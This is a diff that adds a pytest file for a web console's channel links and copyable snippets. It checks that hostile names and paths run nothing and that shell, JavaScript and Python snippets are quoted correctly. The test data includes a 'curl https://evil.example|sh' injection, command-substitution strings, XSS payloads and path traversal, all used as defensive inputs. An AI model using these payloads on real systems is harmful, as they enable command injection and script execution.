@@ -1,0 +1,108 @@
+"""What the console lets one copy: harmless and right, whatever a link or an address says."""
+
+from __future__ import annotations
+
+import ast
+import json
+import re
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+
+from tests.support.chromium import Page
+from tests.support.nginx import Proxy
+from tests.support.programs import find_or_skip
+from tests.support.server import Server
+
+CHANNEL = "a.b:c-d_e"
+CHANNELS = f'operators: anyone\nchannels: {{"{CHANNEL}": {{publish: anyone}}}}\n'
+HOSTILE_PATH = "/it's;touch$IFS'pwned$(touch$IFS.pwned)&"
+"""What no browser encodes in a path, and a shell reads."""
+
+NO_CHANNELS = [
+    "lebowski; curl https://evil.example|sh",
+    "lebowski' ; touch pwned; '",
+    'lebowski" + alert(1) + "',
+    "`touch pwned`",
+    "$(touch pwned)",
+    "a\nb",
+    "</script><script>refused.push('ran')</script>",
+    "<img src=x onerror=refused.push('ran')>",
+    "../channels",
+    "a/b",
+    "chat a",
+    "a" * 256,
+    "lebowski?x=y",
+    "é",
+]
+
+
+@pytest.fixture(scope="module")
+def url() -> Iterator[str]:
+    """Return where a proxy has the server, under the worst of paths."""
+    location = f"""location "{HOSTILE_PATH}/" {{
+        proxy_pass http://abide/;
+        proxy_set_header Host $http_host;
+        proxy_set_header Upgrade $http_upgrade;
+        proxy_set_header Connection $http_connection;
+    }}"""
+    with Server(channels=CHANNELS) as server, Proxy(server.port, location) as proxy:
+        yield f"http://127.0.0.1:{proxy.ports[0]}{HOSTILE_PATH}"
+
+
+@pytest.mark.parametrize("name", NO_CHANNELS)
+def test_a_link_to_what_can_be_no_channel_opens_nothing(page: Page, url: str, name: str) -> None:
+    """Console opens nothing for a link to what cannot be a channel's name, runs nothing of it, and works on."""
+    page.open(f"{url}/#{quote(name, safe='')}")
+    page.until("document.querySelector('#list button') !== null")
+    assert page.run("return document.querySelector('#channel').hidden") is True
+    assert page.run("return document.querySelector('#snippets').textContent") == ""
+    assert page.run("return [refused, document.querySelector('#state').dataset.state]") == [[], "closed"]
+
+
+@pytest.mark.parametrize("fragment", ["%", "%E0%A4%A", "%ff"])
+def test_a_link_that_is_none_opens_nothing(page: Page, url: str, fragment: str) -> None:
+    """Console works on after a link that cannot be decoded."""
+    page.open(f"{url}/#{fragment}")
+    page.until("document.querySelector('#list button') !== null")
+    assert page.run("return [refused, document.querySelector('#channel').hidden]") == [[], True]
+
+
+def test_what_is_copied_is_harmless_and_right(page: Page, url: str, tmp_path: Path) -> None:
+    """Console quotes what it lets one copy: a shell, a JavaScript and a Python program read the address as it is."""
+    page.open(f"{url}/#{quote(CHANNEL, safe='')}")
+    page.until("document.querySelectorAll('#snippets pre').length === 4")
+    publish, subscribe, script, program = page.run(
+        "return [...document.querySelectorAll('#snippets pre')].map(({ textContent }) => textContent)"
+    )
+    for command in (f"{publish} --fail --silent", f"{subscribe} --fail --silent --max-time 1"):
+        done = subprocess.run(["/bin/sh", "-c", command], cwd=tmp_path, capture_output=True, text=True, check=False)
+        assert "position" in done.stdout or "world" in done.stdout, (command, done)
+    assert list(tmp_path.iterdir()) == []
+    literals = [node.value for node in ast.walk(ast.parse(program)) if isinstance(node, ast.Constant)]
+    name = quote(CHANNEL, safe="")
+    assert f"ws{url.removeprefix('http')}/{name}" in literals
+    imported = json.loads(re.findall(r'from (".*");', script)[0])
+    assert imported == f"{url}/client.js"
+    connect = "const connect = (url) => ({ subscribe: (name) => console.log(JSON.stringify([url, name])) });"
+    runs = connect + script.partition('";')[2]
+    node = find_or_skip("node", "nodejs")
+    done = subprocess.run([node, "--eval", runs], capture_output=True, text=True, timeout=20, check=True)
+    assert json.loads(done.stdout) == [url, CHANNEL]
+
+
+def test_client_encodes_names(page: Page) -> None:
+    """Client that is given a name with a path in it asks for no other path than a channel's."""
+    with Server(channels=CHANNELS) as server:
+        page.open(f"{server.url}/health/live")
+        codes = page.run(f"""
+            const {{ connect }} = await import('/client.js');
+            const publish = connect(location.origin).publish('../push/{CHANNEL}', 1).catch(({{ code }}) => code);
+            const stream = new Promise((resolve) => connect(location.origin, {{ WebSocket: null }})
+                .subscribe('{CHANNEL}/history?x=', {{ onError: ({{ code }}) => resolve(code) }}));
+            return [await publish, await stream];
+        """)
+        assert codes == ["unknown_channel", "unknown_channel"]
